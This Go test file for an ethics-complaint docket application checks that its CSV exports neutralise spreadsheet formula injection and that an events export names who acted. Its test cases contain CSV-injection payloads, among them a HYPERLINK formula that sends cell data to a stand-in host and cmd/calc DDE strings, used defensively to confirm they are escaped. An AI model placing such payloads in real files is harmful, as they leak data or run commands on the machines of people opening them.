package store_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"ethicsbot/docket"
	"ethicsbot/store"
)

// exportCSV exports s as CSV and reads the rows back.
func exportCSV(t *testing.T, s *store.Store, public bool) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := s.Export(ctx, &buf, "csv", public); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestExportCSVIsSafeToOpen: a name a spreadsheet would run as a formula is exported to
// CSV with a ' before it, in the full and the public export, and left as recorded in
// JSON. (A leading tab or carriage return is neutralised too, but cannot be recorded:
// docket refuses line breaks, tabs and control characters in names.)
func TestExportCSVIsSafeToOpen(t *testing.T) {
	s := MustOpen(t)
	for _, tc := range []struct{ name, value, want string }{
		{"Equals", `=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
		{"Plus", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"Minus", `-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"At", `@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"PlainName", "Jane O'Roe", "Jane O'Roe"},
		{"FormulaCharLater", "Roe=Doe+1", "Roe=Doe+1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// A case made public (dismissed at its meeting), so the names are in the public
			// export too.
			f := complaint(T(t, "2026-12-04T10:00:00-06:00"), tc.value)
			f.Complainant.Name = tc.value
			res, err := s.File(ctx, docket.Act{By: "U_CLERK", At: f.Received}, f)
			if err != nil {
				t.Fatal(err)
			}
			number := res.Case.Number
			mustApply(t, s, number, "2026-12-04T11:00:00-06:00",
				docket.ScheduleMeeting{Meeting: docket.SufficiencyMeeting, Start: T(t, "2026-12-10T17:00:00-06:00"),
					Place: "City Hall"})
			mustNotice(t, s, number, "2026-12-04T11:30:00-06:00")
			mustApply(t, s, number, "2026-12-10T18:00:00-06:00", docket.Rule{Ruling: docket.NoProbableCause})

			for _, public := range []bool{false, true} {
				rows := exportCSV(t, s, public)
				col := map[string]int{}
				for i, h := range rows[0] {
					col[h] = i
				}
				seen := 0
				for _, row := range rows[1:] {
					if row[col["case"]] != number {
						continue
					}
					seen++
					for _, name := range []string{"complainant", "respondent"} {
						if got := row[col[name]]; got != tc.want {
							t.Errorf("public=%v: %s cell %q, want %q", public, name, got, tc.want)
						}
					}
				}
				if seen == 0 {
					t.Errorf("public=%v: no row for case %s", public, number)
				}
			}

			var buf bytes.Buffer
			if err := s.Export(ctx, &buf, "json", false); err != nil {
				t.Fatal(err)
			}
			var full struct {
				Cases []struct {
					Number      string
					Complainant docket.Person
					Respondent  docket.Person
				}
			}
			if err := json.Unmarshal(buf.Bytes(), &full); err != nil {
				t.Fatal(err)
			}
			found := false
			for _, c := range full.Cases {
				if c.Number != number {
					continue
				}
				found = true
				if c.Complainant.Name != tc.value || c.Respondent.Name != tc.value {
					t.Errorf("JSON export changed the names: %q, %q", c.Complainant.Name, c.Respondent.Name)
				}
			}
			if !found {
				t.Errorf("no case %s in the JSON export", number)
			}
		})
	}
	// No cell of either CSV export begins as a formula.
	for _, public := range []bool{false, true} {
		for _, row := range exportCSV(t, s, public) {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("public=%v: cell %q begins as a formula", public, cell)
				}
			}
		}
	}
}

// TestExportCSVNamesWhoActed: the CSV of events gives, beside each event's Slack id, the
// name the configuration gives that person, or the id when it gives none.
func TestExportCSVNamesWhoActed(t *testing.T) {
	s := MustOpen(t)
	mustFile(t, s, "2026-12-04T10:00:00-06:00", "Jane Roe")
	for _, tc := range []struct {
		people docket.Roster
		want   string
	}{
		{docket.NewRoster([]docket.Member{{ID: "U_CLERK", Name: "Dana Dale", Title: "Clerk"}}), "Dana Dale"},
		{docket.Roster{}, "U_CLERK"},
	} {
		var buf bytes.Buffer
		if err := s.ExportNamed(ctx, &buf, "csv", false, tc.people); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%v %v", rows, err)
		}
		head, row := rows[0], rows[1]
		if head[len(head)-1] != "by_name" || head[8] != "by" || row[8] != "U_CLERK" || row[len(row)-1] != tc.want {
			t.Errorf("header %v, row %v; want by_name %q", head, row, tc.want)
		}
	}
}
